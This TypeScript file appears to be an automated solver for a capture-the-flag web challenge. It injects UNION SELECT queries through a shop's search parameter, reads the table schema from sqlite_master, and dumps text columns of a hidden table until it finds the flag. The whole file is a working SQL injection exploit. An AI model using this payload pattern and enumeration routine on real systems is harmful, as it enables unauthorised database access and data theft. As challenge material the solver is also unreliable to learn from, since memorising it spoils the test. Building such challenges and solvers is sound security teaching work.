import type { SolveContext } from '../solve-context.ts'

/**
 * Injects UNION queries through the search box. The first query lists the tables, and the others list the text columns of the
 * hidden table.
 */
export async function solve(context: SolveContext): Promise<string> {
  const ask = async (question: string): Promise<string> => {
    const injected = `nothing' UNION SELECT 1, 2, 3, ${question} -- `
    const response = await context.fetch(`/?q=${encodeURIComponent(injected)}`)
    if (response.status !== 200) throw new Error(`The shop answered ${response.status}`)
    return response.text()
  }

  const contents = await ask("sql FROM sqlite_master WHERE type = 'table'")
  const hidden = [...contents.matchAll(/CREATE TABLE (\w+) \(([^)]*)\)/g)].find(([, table]) => table !== 'goods')
  if (!hidden) throw new Error('No table beside the goods')
  const [, table, definition = ''] = hidden

  for (const [, column] of definition.matchAll(/(\w+) TEXT/g)) {
    const flag = /flag\{[^}<]+\}/.exec(await ask(`${column} FROM ${table}`))
    if (flag) return flag[0]
  }
  throw new Error(`No flag in ${table}`)
}
